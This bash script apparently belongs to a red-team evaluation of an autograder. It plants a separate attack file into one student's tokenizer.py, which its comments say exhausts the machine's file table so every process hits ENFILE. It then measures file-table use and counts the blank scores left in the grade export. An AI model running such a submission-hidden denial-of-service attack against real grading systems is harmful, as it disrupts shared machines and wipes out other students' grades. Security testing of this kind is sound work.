#!/usr/bin/env bash
# Row 2e: row 2 at no cost to the attacker: file_table_tokenizer.py appended to an honest tokenizer.py (18 public
# calls, each right after 6 s; children retry on ENFILE, so nothing freed stays free); 24 honest learners beside it.
# usage: file_table_tokenizer.sh OUT     Warning: for ~80 s every unprivileged process on the machine gets ENFILE.
set -u
OUT=${1:-/tmp/rt10b}
HERE=$(cd "$(dirname "$0")" && pwd)
R9=$HERE/../round9
D=$OUT/f6; rm -rf "$D" "$D.db"
python "$R9/build.py" "$OUT" $(for i in $(seq -w 1 24); do echo -n "f6:learner$i: "; done) f6:amallory:
cat "$HERE/file_table_tokenizer.py" >> "$D/amallory/student/tokenizer.py"
(for i in $(seq 1 300); do echo "$(date +%T) $(cat /proc/sys/fs/file-nr)"; sleep 0.5; done > "$OUT/f6.filenr") &
MON=$!
python -m grader batch "$D" --jobs 2 --db "$D.db"
kill $MON 2>/dev/null
echo "peak /proc/sys/fs/file-nr (allocated, free, max): $(sort -k2 -n "$OUT/f6.filenr" | tail -1)"
python -m grader report --db "$D.db" --lms "$OUT/f6.lms" > /dev/null
echo "LMS file: $(grep -c $',\r$' "$OUT/f6.lms") blank scores of $(($(wc -l < "$OUT/f6.lms") - 1))"
